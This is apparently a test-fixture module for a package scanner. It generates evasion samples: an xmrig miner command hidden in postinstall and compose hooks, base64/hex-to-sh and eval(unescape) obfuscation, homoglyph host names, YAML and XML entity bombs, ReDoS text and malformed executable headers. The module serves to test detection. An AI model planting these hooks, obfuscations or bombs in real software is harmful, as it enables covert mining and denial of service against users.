"""Chapter 3.5 of the catalogue: programs, pictures and texts that make readers stumble."""
import base64
import json
import pathlib
import struct
from typing import List

import images
from hostile import EVIL, GOOD, NAME, Line, Elsewhere, clean, found, incomplete, package, repo, row
from hostile_streams import gz
from hostile_zips import Zip, deflated, evil_zip, png
from images import rogue

TEXT = EVIL.decode()
COMMAND = " ".join(rogue.miner_argv())
LINE = f"nohup ./xmrig -o stratum+tcp://{rogue.POOL} -u {rogue.wallet()} -p x -k --tls &\n".encode()


def wild_elf() -> bytes:
    """The fake miner with offsets and counts that lead anywhere."""
    elf = bytearray(rogue.fake_miner())
    struct.pack_into("<QQ", elf, 32, 0xfffffffffffffff0, 0x7fffffffffffffff)
    struct.pack_into("<HHHHH", elf, 54, 65535, 65535, 65535, 65535, 65535)
    return bytes(elf) + LINE


def fat_macho() -> bytes:
    return struct.pack(">II", 0xcafebabe, 0xffffffff) + struct.pack(
        ">IIIII", 7, 3, 0xfffffff0, 0xffffffff, 31) * 8 + GOOD


def pe_past_end() -> bytes:
    return (b"MZ" + bytes(58) + struct.pack("<I", 0xfffffff0)).ljust(512, b"\0") + GOOD


def packed_elf() -> bytes:
    elf = bytearray(rogue.fake_miner([]))
    return bytes(elf) + b"UPX!" + bytes(range(256)) * 40 + b"$Info: This file is packed with the UPX"


def docx() -> bytes:
    return Zip().add(b"[Content_Types].xml", b"<Types/>").add(
        b"word/embeddings/oleObject1.bin", deflated(EVIL), 8, data=EVIL).end()


def pdf() -> bytes:
    import zlib
    stream = zlib.compress(EVIL)
    return (b"%PDF-1.4\n1 0 obj\n<< /Type /EmbeddedFile /Filter /FlateDecode /Length " +
            str(len(stream)).encode() + b" >>\nstream\n" + stream + b"\nendstream\nendobj\n"
            b"trailer << /Root 1 0 R >>\n%%EOF\n")


def utf(name: str, bom: bytes = b"") -> bytes:
    return bom + TEXT.encode(name)


def deep_json() -> bytes:
    return b'{"scripts": {"postinstall": "' + COMMAND.encode() + b'"}, "x": ' + b"[" * 100_000 + \
        b"]" * 100_000 + b"}"


def laughs() -> bytes:
    lines = ["a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol, lol]"]
    lines += [f"a{i}: &a{i} [" + ", ".join([f"*a{i - 1}"] * 10) + "]" for i in range(1, 12)]
    service = f"services:\n  shop:\n    image: alpine\n    command: {COMMAND}\n"
    return ("\n".join(lines) + "\n" + service).encode()


def entities() -> bytes:
    dtd = "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 12))
    return (f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "lol">{dtd}]>'
            f"<x><run>&a11;</run><argument>{COMMAND}</argument></x>").encode()


def twice() -> bytes:
    return (b'{"name": "p", "version": "1.0.0", "scripts": {"postinstall": "' + COMMAND.encode() +
            b'"}, "scripts": {"test": "true"}}')


def redos() -> bytes:
    return (b"stratum+tcp://" + b"a." * 400_000 + b"\n" + b"xmrig -o " * 100_000 + b"-u " * 100_000 +
            b"\n" + b"((a{1,5000}){1,5000})" * 1000 + b"a" * 1_000_000)


def every_byte(tree: pathlib.Path) -> None:
    (tree / "empty").write_bytes(b"")
    for value in range(256):
        (tree / f"b{value:02x}").write_bytes(bytes([value]))


ROWS: List[Line] = [
    row(80, "an ELF program of wild offsets and counts", package("a", wild_elf),
        found("")),
    row(81, "gzip behind an ELF program", package("a", lambda: rogue.fake_miner([]) + gz(EVIL)),
        found("gzip")),
    row(81, "a zip behind an ELF program", package("a", lambda: rogue.fake_miner([]) + evil_zip()),
        found(NAME)),
    row(81, "a script behind an ELF program", package("a", lambda: rogue.fake_miner([]) + EVIL),
        found("")),
    row(82, "a fat Mach-O of 2^32 - 1 slices", package("a", fat_macho), incomplete(), clean()),
    row(82, "a PE program whose header is past its end", package("a.exe", pe_past_end),
        incomplete(), clean()),
    row(83, "a packer's mark that leads nowhere", package("a", packed_elf),
        clean(), incomplete(), found("")),
    Elsewhere(83, "what UPX packed", ["tests/unit/inspect/packers/upx_test.cpp"]),
    row(84, "a picture with a compressed text", package("a.png", lambda: png(
        [b"zTXtComment\0\0" + __import__("zlib").compress(EVIL)])), found(""), clean()),
    row(84, "a PDF file with an embedded file", package("a.pdf", pdf), found(""), clean()),
    row(84, "a document of Office", package("a.docx", docx), found("oleObject1.bin")),
    row(85, "UTF-16, little end first", package("a.ps1", lambda: utf("utf-16-le", b"\xff\xfe")),
        found("")),
    row(85, "UTF-16, big end first", package("a.sh", lambda: utf("utf-16-be", b"\xfe\xff")),
        found("")),
    row(85, "UTF-16 without a mark", package("a.sh", lambda: utf("utf-16-le")), found("")),
    row(85, "UTF-32", package("a.sh", lambda: utf("utf-32-le", b"\xff\xfe\0\0")), found("")),
    row(86, "capitals", package("a.sh", lambda: EVIL.replace(b"stratum+tcp", b"StRaTuM+TcP").replace(
        b"xmrig", b"XMRig")), found("")),
    row(86, "NUL first", package("a.sh", lambda: b"\0" + EVIL), found("")),
    row(86, "control characters first", package("a.sh", lambda: b"\x01\x02\x1b\x7f" + EVIL),
        found("")),
    row(86, "NUL in the midst", package("a.sh", lambda: EVIL.replace(b"exit 0\n", b"exit 0\n\0\0")),
        found("")),
    row(87, "a line of 900 KB and the command last", package("a.js", lambda: b"x=1;" * 225_000 +
        b"require('child_process').exec('" + COMMAND.encode() + b"')"), found("")),
    row(88, "invalid UTF-8 around the command",
        package("a.sh", lambda: EVIL.replace(b" -p x", b" -p \xff\xfe\xc3\x28")), found("")),
    row(89, "15,000 commands", package("a.sh", lambda: b"#!/bin/sh\n" + LINE * 15_000), found("")),
    row(90, "JSON of 100,000 levels", package("package.json", deep_json), found("")),
    row(90, "a bomb of YAML's aliases", package("compose.yml", laughs), found("")),
    row(90, "a bomb of XML's entities", package("task.xml", entities), found("")),
    row(91, "scripts twice in package.json", repo({"package.json": twice()}), found("")),
    row(92, "text for slow expressions", package("redos.txt", redos), clean()),
    row(93, "base64", package("a.sh", lambda: b"#!/bin/sh\necho " + base64.b64encode(EVIL) +
                              b" | base64 -d | sh\n"), found("base64")),
    row(93, "hex", package("a.sh", lambda: b"#!/bin/sh\necho " + EVIL.hex().encode() +
                           b" | xxd -r -p | sh\n"), found("hex")),
    row(93, "percent signs", package("a.js", lambda: b"eval(unescape('" + "".join(
        f"%{b:02x}" for b in EVIL).encode() + b"'))\n"), found("")),
    row(93, "joined strings", package("a.py", lambda: b"import os\nos.system('" + b"' + '".join(
        COMMAND[i:i + 9].encode() for i in range(0, len(COMMAND), 9)) + b"')\n"), found("")),
    row(94, "a zero-width space in the pool's name", package(
        "a.sh", lambda: TEXT.replace("pool.rogue", "pool.ro\u200bgue").encode()), found("")),
    row(94, "letters of another alphabet in the pool's name", package(
        "a.sh", lambda: TEXT.replace("pool.rogue", "p\u043e\u043el.rogue").encode()), found("")),
    row(95, "an empty file and one of each byte", repo(every_byte), clean()),
    row(95, "an empty file alone", package("empty", b""), clean()),
]
